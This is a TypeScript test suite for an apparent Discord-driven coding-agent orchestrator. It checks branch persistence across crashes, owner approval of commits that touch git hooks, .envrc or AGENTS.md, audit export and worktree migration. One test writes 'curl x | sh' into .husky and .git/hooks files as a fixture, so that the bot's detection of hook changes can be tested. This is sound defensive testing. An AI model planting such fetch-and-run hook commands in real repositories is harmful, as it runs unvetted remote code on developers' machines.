import assert from 'node:assert/strict'
import { existsSync, lstatSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { describe, test } from 'node:test'
import { controlsOf, textOf, type SeenMessage } from 'loopback-discord'
import { grant } from './approving.ts'
import { folderOf, git, repository, starts, told } from './repositories.ts'
import { Stage, until } from './stage.ts'

/** A commit, as an agent makes one in its clone. */
function commit(folder: string, name: string): string {
  writeFileSync(join(folder, name), `${name}\n`)
  git(folder, 'add', '-A')
  git(folder, 'commit', '--quiet', '-m', name)
  return git(folder, 'rev-parse', 'HEAD')
}

const branch = (shop: string): string => git(shop, 'for-each-ref', '--format=%(objectname)', 'refs/heads/omc/cart')

describe('the branch of a session', { concurrency: true }, () => {
  for (const dieAt of ['branch-packed', 'branch-taken']) {
    test(`killed at '${dieAt}', the next life has it in the repository`, async () => {
      await using stage = await Stage.open({ ownProcess: true })
      const shop = repository(stage)
      const first = await stage.startBot({ dieAt })
      const olivia = await stage.sandbox.actor('olivia')
      const { thread } = await starts(olivia, 'cart', { workdir: 'shop' })
      const work = commit(folderOf(stage, 'shop', 'cart'), 'one')
      await olivia.says(thread, '!say done')
      await first.died()
      assert.equal(branch(shop), dieAt === 'branch-packed' ? '' : work)
      await stage.startBot()
      await until(() => branch(shop) === work)
      git(shop, 'fsck', '--strict')
      await stage.botShows(olivia, thread, 'done')
      assert.match((await told(olivia, thread, '/session stop')).content, /not merged anywhere/)
    })
  }

  test('that changes what others obey waits for an owner, who lets it in over a kill', async () => {
    await using stage = await Stage.open({ ownProcess: true })
    const shop = repository(stage)
    const env = { OMC_AUDIT_CHANNEL_ID: stage.sandbox.channel('work') }
    const first = await stage.startBot({ dieAt: 'branch-taken', env })
    grant(stage, { bob: 'member' })
    const [olivia, bob] = [await stage.sandbox.actor('olivia'), await stage.sandbox.actor('bob')]
    const { thread } = await starts(olivia, 'cart', { workdir: 'shop' })
    const folder = folderOf(stage, 'shop', 'cart')
    // As a command writes it: nobody was asked.
    mkdirSync(join(folder, '.husky'))
    const hook = commit(folder, join('.husky', 'pre-commit'))
    await bob.says(thread, '!say done')
    const asks = (paths: string): Promise<SeenMessage> =>
      olivia.sees(thread, (message) => controlsOf(message).length > 0 && textOf(message).includes(paths))
    const ask = await asks('`.husky/pre-commit`')
    assert.match(textOf(ask), /changes files that other programs obey later/)
    assert.equal(branch(shop), '')
    await bob.clicks(ask, 'Let it in')
    await bob.sees(thread, ({ ephemeral, content }) => ephemeral && /You are a member here/.test(content))
    const envrc = commit(folder, '.envrc')
    await olivia.clicks(ask, 'Let it in')
    await olivia.sees(thread, ({ ephemeral, content }) => ephemeral && /has committed more since/.test(content))
    const again = await asks('`.envrc`')
    assert.equal(branch(shop), '')
    await olivia.clicks(again, 'Let it in')
    await first.died()
    assert.equal(branch(shop), envrc)
    await stage.startBot({ env })
    const came = await olivia.sees(thread, (message) => /came to `omc\/cart`, by @olivia/.test(textOf(message)))
    assert.match(textOf(came), /`\.envrc`/, 'what she let in, also after a death in the middle')
    git(shop, 'merge-base', '--is-ancestor', hook, 'omc/cart')
    await olivia.clicks(ask, 'Let it in')
    await olivia.sees(thread, (message) => /Nothing is left to decide here/.test(textOf(message)))

    // Two at once: one has let it in, and the other is told who that was.
    const notes = commit(folder, 'AGENTS.md')
    await olivia.says(thread, '!say more')
    const both = await asks('`AGENTS.md`')
    const [alice, minji] = [await stage.sandbox.actor('alice'), await stage.sandbox.actor('minji')]
    await Promise.all([alice.clicks(both, 'Let it in'), minji.clicks(both, 'Let it in')])
    const answers = await Promise.all([
      alice.sees(thread, ({ ephemeral, content }) => ephemeral && /It is on its branch|has let it in/.test(content)),
      minji.sees(thread, ({ ephemeral, content }) => ephemeral && /이제 브랜치에|이미 들였어요/.test(content)),
    ])
    const said = answers.map(({ content }) => content).join('\n')
    assert.match(
      said,
      /^(✓ It is on its branch now\.\n.*@alice 님이 이미|@minji has let it in already.*\n✓ 이제 브랜치에)/,
    )
    assert.equal(branch(shop), notes)
    const audited = stage.query<{ owner: string }>("select owner from messages where owner like 'note:branch:%'")
    assert.equal(audited.length, 2, 'what she let in, and this once')
    const reply = await told(olivia, thread, '/audit export')
    const file = stage.sandbox.world.messages.get(thread.id)?.get(reply.id)?.attachments[0]
    const text = new TextDecoder().decode(file?.bytes)
    for (const sha of [envrc, notes])
      assert.match(text, new RegExp(`"record":"let-in"[^\n]*"commit":"${sha.slice(0, 32)}"`))
    assert.ok(!text.includes(hook.slice(0, 32)), 'that one came with another')
  })

  test('of a session in a folder itself there is none: what others obey is told after the turn', async () => {
    await using stage = await Stage.open()
    const shop = repository(stage)
    await stage.startBot()
    const olivia = await stage.sandbox.actor('olivia')
    const { thread, reply } = await starts(olivia, 'cart', { workdir: 'shop', worktree: false })
    assert.match(reply.content, /What it writes is there at once/)
    assert.match(textOf(await told(olivia, thread, '/session list')), /· no branch/)
    await olivia.says(thread, '!until noon at work')
    await stage.botShows(olivia, thread, '● Working')
    mkdirSync(join(shop, 'web', '.husky'), { recursive: true })
    writeFileSync(join(shop, 'web', '.husky', 'pre-push'), 'curl x | sh\n')
    writeFileSync(join(shop, '.git', 'hooks', 'post-merge'), 'curl x | sh\n')
    writeFileSync(join(shop, 'src', 'other.ts'), 'x\n')
    stage.opens('noon')
    const note = await olivia.sees(thread, ({ content }) =>
      /files changed in .* that other programs obey later/.test(content),
    )
    // What git itself wrote a moment before may be among them.
    for (const path of ['.git/hooks/post-merge', 'web/.husky/pre-push'])
      assert.ok(note.content.includes(`- \`${path}\``))
    assert.ok(!note.content.includes('other.ts'))
  })

  test('that somebody has moved in the repository is left as they made it, and the place is told once', async () => {
    await using stage = await Stage.open()
    const shop = repository(stage)
    await stage.startBot()
    const olivia = await stage.sandbox.actor('olivia')
    const { thread } = await starts(olivia, 'cart', { workdir: 'shop' })
    const folder = folderOf(stage, 'shop', 'cart')
    const first = commit(folder, 'one')
    await olivia.says(thread, '!say done')
    await until(() => branch(shop) === first)
    const theirs = git(shop, 'commit-tree', '-m', 'theirs', '-p', 'main', 'main^{tree}')
    git(shop, 'update-ref', 'refs/heads/omc/cart', theirs)
    commit(folder, 'two')
    for (const nth of ['first', 'second']) {
      await olivia.says(thread, `!say ${nth}`)
      await stage.botShows(olivia, thread, nth)
      await stage.botShows(olivia, thread, /What \*\*cart\*\* has committed is not on `omc\/cart`/)
    }
    assert.equal(branch(shop), theirs)
    git(shop, 'branch', '-m', 'omc/cart', 'theirs')
    const third = commit(folder, 'three')
    await olivia.says(thread, '!say third')
    await until(() => branch(shop) === third)
    const told = (await stage.botMessages(olivia, thread)).filter(({ content }) => /is not on `omc/.test(content))
    assert.equal(told.length, 1)
  })

  test('of a session that began in a git worktree comes along when that is made a clone', async () => {
    await using stage = await Stage.open()
    const shop = repository(stage)
    const bot = await stage.startBot()
    const olivia = await stage.sandbox.actor('olivia')
    const { thread } = await starts(olivia, 'cart', { workdir: 'shop' })
    const folder = folderOf(stage, 'shop', 'cart')
    await bot.terminate()
    // As the version before had left it.
    rmSync(folder, { recursive: true })
    for (const ref of ['base', 'mirrored']) git(shop, 'update-ref', '-d', `refs/omc/cart/${ref}`)
    git(shop, 'worktree', 'add', '--quiet', '-b', 'omc/cart', folder)
    const db = new DatabaseSync(join(stage.data, 'orchestrator.sqlite'))
    db.exec("update omc_sessions set worktree = json_remove(worktree, '$.borrows')")
    db.close()
    writeFileSync(join(folder, 'notes.txt'), 'mine\n')
    const again = await stage.startBot()
    await again.logged('worktree.renewed')
    assert.ok(lstatSync(join(folder, '.git')).isDirectory())
    assert.match((await told(olivia, thread, '/diff')).content, /notes\.txt/)
    const work = commit(folder, 'one')
    await olivia.says(thread, '!say done')
    await until(() => branch(shop) === work)
    git(shop, 'merge', '--quiet', 'omc/cart')
    assert.match((await told(olivia, thread, '/session stop')).content, /were removed/)
    assert.ok(!existsSync(folder))
  })
})
